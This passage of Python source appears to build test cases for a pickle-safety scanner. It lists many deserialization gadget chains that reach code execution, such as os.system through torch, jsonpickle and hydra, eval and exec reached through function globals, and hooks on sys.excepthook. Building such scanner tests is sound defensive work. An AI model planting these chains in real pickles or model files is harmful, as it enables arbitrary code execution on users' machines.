    yield "enum_bltns", c("enum:bltns.eval", EXPR)
    yield "sklearn_base_inspect", c("sklearn.base:inspect.importlib.import_module", MOD)
    yield "torch_storage_builtins_module", c("torch.serialization:shutil.os.system", CMD)
    yield "torch_functional_importlib", c("torch:importlib.import_module", MOD)
    yield "function_globals", Call(c("operator:getitem", g("json:dumps.__globals__"), "codecs"))
    yield "os_in_globals", Call(c("builtins:dict.get", g("glob:glob.__globals__"), "os"))
    yield "builtins_in_globals", Call(c("operator:getitem", c("operator:getitem", g("textwrap:dedent.__globals__"), "__builtins__"), "eval"), EXPR)
    yield "estimator_method_globals", Call(c("operator:getitem", c("operator:getitem", g("sklearn.linear_model:LogisticRegression.fit.__globals__"), "__builtins__"), "exec"), EXPR)


ABSENT: list[Row] = [
    ("joblib_cloudpickle_loads", c("joblib.externals.cloudpickle:loads", INNER)),
    ("f2py_run_command", c("numpy.f2py.diagnose:run_command", CMD)),
    ("joblib_cloudpickle_subimport", c("joblib.externals.cloudpickle.cloudpickle:subimport", MOD)),
    ("torch_bottleneck", c("torch.utils.bottleneck.__main__:run_cprofile", EXPR, {})),
    ("pkg_resources_entry", Call(c("pkg_resources:EntryPoint.resolve", c("pkg_resources:EntryPoint", "run", "os", ("system",))), CMD)),
    ("webbrowser_open", c("webbrowser:open", "http://127.0.0.1:9/")),
    ("ipython_getoutput", c("IPython.utils.process:getoutput", CMD)),
    ("ipython_start", c("IPython:start_ipython", ["-c", EXPR])),
    ("dill_loads", c("dill._dill:loads", INNER)),
    ("dill_create_function", Call(c("dill._dill:_create_function", c("dill._dill:_create_code", 0, 0, 0, 0, 2, 64, b"d\x00S\x00", (None,), (), (), "m", "m", 1, b""), {}))),
    ("dill_eval_repr", c("dill._dill:_eval_repr", EXPR)),
    ("django_import_string", Call(c("django.utils.module_loading:import_string", "os.system"), CMD)),
    ("celery_symbol", Call(c("kombu.utils.imports:symbol_by_name", "os:system"), CMD)),
    ("tensorflow_read_file", c("tensorflow.python.ops.gen_io_ops:write_file", MARK, "x")),
    ("tensorflow_py_func", c("tensorflow:py_function", SYS, [CMD], [])),
    ("tensorflow_load_library", c("tensorflow:load_library", "held_out.so")),
    ("transformers_dynamic", c("transformers.dynamic_module_utils:get_class_from_dynamic_module", "x.Y", ".")),
    ("datasets_load", c("datasets:load_dataset", ".")),
    ("lightning_load", c("pytorch_lightning.utilities.migration.utils:pl_legacy_patch")),
    ("paramiko_proxy", c("paramiko:ProxyCommand", CMD)),
    ("fabric_local", c("fabric.api:local", CMD)),
    ("invoke_run", c("invoke:run", CMD)),
    ("pexpect_run", c("pexpect:run", CMD)),
    ("psutil_popen", c("psutil:Popen", ARGV)),
    ("sh_command", Call(c("sh:Command", "touch"), MARK)),
    ("nltk_download", c("nltk:download", "x")),
    ("catboost_load", c("catboost.core:_load_pickled", INNER)),
    ("gensim_unpickle", c("gensim.utils:unpickle", "held_out.pkl")),
    ("statsmodels_load", c("statsmodels.iolib.smpickle:load_pickle", "held_out.pkl")),
    ("ray_cloudpickle", c("ray.cloudpickle:loads", INNER)),
    ("hydra_instantiate", c("hydra.utils:instantiate", {"_target_": "os.system", "_args_": [CMD]})),
    ("omegaconf_resolver", c("omegaconf:OmegaConf.register_new_resolver", "x", SYS)),
    ("aim_internal_module", c("model_utils.loader:restore", {"weights": b"\x00" * 64, "hook": EXPR})),
    ("numexpr_evaluate", c("numexpr:evaluate", EXPR)),
    ("asteval", Call(c("asteval:Interpreter"), EXPR)),
    ("torch_tensorrt_engine", c("torch_tensorrt.runtime:load_library", "held_out.so")),
    ("jsonpickle", c("jsonpickle:decode", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["' + CMD + '"]}]}')),
    ("unknown_package_class", New(g("acme_models.pipeline:ChurnModel"))),
]


DEFERRED: list[Row] = [
    ("gc_callbacks", Append(g("gc:callbacks"), SYS)),
    ("sys_excepthook", Item(g("sys:__dict__"), "excepthook", SYS)),
    ("dispatch_table", Item(g("copyreg:dispatch_table"), g("builtins:complex"), SYS)),
]


def tables() -> Iterator[tuple[str, str, Any, str]]:
    """Yield category, name, expression, and how it is checked."""
    for category, rows in (("commands", COMMANDS), ("python code", PYTHON), ("threads and hooks", THREADS), ("higher-order", HIGHER), ("loads again", LOADS), ("libraries", THIRD), ("files", FILES), ("network", NETWORK), ("denial", DENIAL), ("reached through", list(reached()))):
        for name, value in rows:
            yield f"pickle: {category}", name, value, "pickle"
    for name, value in old():
        yield "pickle: old names", name, value, "old"
    for name, value in ABSENT:
        yield "pickle: absent libraries", name, value, "absent"
    for name, value in DEFERRED:
        yield "pickle: deferred", name, value, "absent"
